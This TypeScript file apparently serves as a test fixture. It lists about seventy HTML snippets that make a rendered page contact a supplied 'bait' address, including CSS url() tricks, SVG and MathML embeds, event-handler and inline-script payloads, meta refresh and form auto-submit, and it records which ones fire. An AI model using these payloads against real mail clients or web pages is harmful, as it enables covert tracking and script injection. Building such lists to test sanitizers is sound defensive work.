// HTML that calls home in every way that is known (attack E6): each by itself, named by the address that it asks for.

/** One way to call home, as a piece of HTML. */
export interface Channel {
  readonly name: string;
  readonly html: string;
  /** It belongs into the head of a document. */
  readonly head?: boolean;
  /** A page that holds it, and nothing else, has called home when it is loaded: in both browsers. */
  readonly bites: boolean;
}

/** All of them; what a channel asks for is below `<bait>/<its name>`. */
export function channels(bait: string): Channel[] {
  const at = (name: string): string => `${bait}/${name}`;
  const one = (name: string, bites: boolean, html: (address: string, more: typeof at) => string): Channel => ({
    name,
    bites,
    html: html(at(name), at),
  });
  const head = (name: string, bites: boolean, html: (address: string) => string): Channel => ({
    ...one(name, bites, html),
    head: true,
  });
  const css = (name: string, bites: boolean, rule: (address: string) => string): Channel =>
    head(name, bites, (address) => `<style>${rule(address)}</style>`);
  return [
    head('link-stylesheet', true, (a) => `<link rel="stylesheet" href="${a}">`),
    head('link-prefetch', true, (a) => `<link rel="prefetch" href="${a}">`),
    head('link-preload', true, (a) => `<link rel="preload" as="image" href="${a}">`),
    head('link-modulepreload', true, (a) => `<link rel="modulepreload" href="${a}">`),
    head(
      'link-preconnect',
      false,
      () => `<link rel="preconnect" href="${bait}"><link rel="dns-prefetch" href="${bait}">`,
    ),
    head('link-icon', false, (a) => `<link rel="icon" href="${a}"><link rel="manifest" href="${a}/manifest">`),
    css('css-import', true, (a) => `@import "${a}";`),
    css('css-font', true, (a) => `@font-face { font-family: bait; src: url("${a}") } p { font-family: bait }`),
    css('css-background', true, (a) => `p { background: url("${a}") }`),
    css('css-list', true, (a) => `p { list-style-image: url("${a}"); display: list-item }`),
    css('css-content', true, (a) => `p { content: url("${a}") }`),
    css('css-before', true, (a) => `p::before { content: url("${a}") }`),
    css('css-border', true, (a) => `p { border: 1px solid; border-image: url("${a}") 1 }`),
    css('css-cursor', false, (a) => `p { cursor: url("${a}"), auto }`),
    css('css-image-set', true, (a) => `p { background: image-set(url("${a}") 1x) }`),
    css('css-mask', true, (a) => `p { mask-image: url("${a}") }`),
    css('css-filter', false, (a) => `p { filter: url("${a}#f") }`),
    css('css-shape', false, (a) => `p { float: left; shape-outside: url("${a}") }`),
    one('img', true, (a) => `<img src="${a}">`),
    one('img-srcset', true, (a) => `<img srcset="${a} 2x, ${a} 1x">`),
    one('img-lowsrc', true, (a) => `<img lowsrc="${a}/low" dynsrc="${a}/dyn" src="${a}">`),
    one('picture', true, (a) => `<picture><source srcset="${a}"><img alt=""></picture>`),
    one('image', true, (a) => `<image src="${a}"></image>`),
    one('input-image', true, (a) => `<input type="image" src="${a}">`),
    one('body-background', true, (a) => `<body background="${a}">`),
    one(
      'table-background',
      true,
      (a) => `<table background="${a}"><tr><td background="${a}/td">cell</td></tr></table>`,
    ),
    one('style-background', true, (a) => `<div style="background: url('${a}')">background</div>`),
    one('style-quoted', true, (a) => `<div style="background-image: url(&quot;${a}&quot;)">quoted</div>`),
    one('style-list', true, (a) => `<div style="list-style: url(${a}); display: list-item">list</div>`),
    one('style-variable', true, (a) => `<div style="--bait: url(${a}); background: var(--bait)">variable</div>`),
    one('style-escaped', true, (a) => `<div style="background: u\\72l(${a})">escaped</div>`),
    one('iframe', true, (a) => `<iframe src="${a}"></iframe>`),
    one('iframe-srcdoc', true, (a) => `<iframe srcdoc="<img src='${a}'>"></iframe>`),
    one('object', true, (a) => `<object data="${a}"></object>`),
    one('embed', true, (a) => `<embed src="${a}">`),
    one(
      'applet',
      false,
      (a) => `<object type="text/html"><param name="movie" value="${a}"></object><applet code="${a}"></applet>`,
    ),
    one('video', true, (a) => `<video src="${a}" autoplay></video>`),
    one('video-poster', true, (a) => `<video poster="${a}"></video>`),
    one('video-source', true, (a) => `<video autoplay><source src="${a}"></video>`),
    one('track', false, (a) => `<video><track default src="${a}"></video>`),
    one('audio', true, (a) => `<audio src="${a}" autoplay></audio><bgsound src="${a}">`),
    one('svg-image', true, (a) => `<svg><image href="${a}" width="1" height="1"/></svg>`),
    one('svg-xlink', true, (a) => `<svg><image xlink:href="${a}" width="1" height="1"/></svg>`),
    one('svg-use', false, (a) => `<svg><use href="${a}#u"/></svg>`),
    one(
      'svg-feimage',
      false,
      (a) => `<svg><filter id="f"><feImage href="${a}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    ),
    one('svg-style', true, (a) => `<svg><style>@import "${a}";</style></svg>`),
    one('svg-script', true, (a) => `<svg><script href="${a}"></script></svg>`),
    one('svg-foreign', true, (a) => `<svg><foreignObject><img src="${a}"></foreignObject></svg>`),
    one(
      'svg-animate',
      true,
      (a) => `<svg><image width="1" height="1"><set attributeName="href" to="${a}"/></image></svg>`,
    ),
    one('math-img', true, (a) => `<math><mtext><img src="${a}"></mtext></math>`),
    one('math-link', false, (a) => `<math><maction actiontype="statusline" xlink:href="${a}">m</maction></math>`),
    one('script', true, (a) => `<script src="${a}"></script>`),
    one('script-inline', true, (a) => `<script>new Image().src = "${a}"; fetch("${a}/fetch").catch(() => 0)</script>`),
    one('onerror', true, (a) => `<img src="x:" onerror="new Image().src='${a}'">`),
    one('onload', true, (a) => `<body onload="new Image().src='${a}'">`),
    one('ontoggle', true, (a) => `<details open ontoggle="fetch('${a}')">d</details>`),
    one('meta-refresh', true, (a) => `<meta http-equiv="refresh" content="0; url=${a}">`),
    one('base', true, (a) => `<base href="${a}/"><img src="relative">`),
    one('anchor', false, (a) => `<a href="${a.replace(/^http:/, '')}" ping="${a}/ping">a link</a>`),
    one('javascript', false, (a) => `<a href="javascript:fetch('${a}')">script link</a>`),
    one(
      'form',
      true,
      (a) =>
        `<form action="${a}"><input name="q" autofocus onfocus="this.form.submit()"><button formaction="${a}">x</button></form>`,
    ),
    one('template', false, (a) => `<template><img src="${a}"></template>`),
    one('noscript', false, (a) => `<noscript><img src="${a}"></noscript>`),
    one(
      'raw-text',
      false,
      (a) =>
        `<xmp><img src="${a}"></xmp><textarea><img src="${a}"></textarea><select><option><img src="${a}"></select>`,
    ),
    one('comment', true, (a) => `<!--><img src="${a}">-->`),
    one('cdata', false, (a) => `<![CDATA[<img src="${a}">]]>`),
    one(
      'data-svg',
      false,
      (a) =>
        `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${a}"/></svg>`)}">`,
    ),
    one('data-frame', true, (a) => `<iframe src="data:text/html,${encodeURIComponent(`<img src="${a}">`)}"></iframe>`),
    one('fenced', false, (a) => `<portal src="${a}"></portal><fencedframe src="${a}"></fencedframe>`),
    one('slot', true, (a) => `<slot><img src="${a}"></slot>`),
    one(
      'shadow',
      true,
      (a) => `<div><template shadowrootmode="open"><img src="${a}"><style>@import "${a}/css"</style></template></div>`,
    ),
    one('frameset', false, (a) => `<frameset onload="new Image().src='${a}'"><frame src="${a}/frame"></frameset>`),
  ];
}

export const FIRST_LINE = 'The first line of the letter.';
export const LAST_LINE = 'The last line of the letter.';

/** A document with some of them, between two lines of text. */
export function documentWith(some: readonly Channel[]): string {
  const of = (inHead: boolean) => some.filter(({ head = false }) => head === inHead).map(({ html }) => html);
  return `<html><head>${of(true).join('\n')}</head><body>
<p>${FIRST_LINE}</p>
${of(false).join('\n')}
<p>${LAST_LINE}</p></body></html>`;
}

/** One document with all of them. */
export const backChannels = (bait: string): string => documentWith(channels(bait));
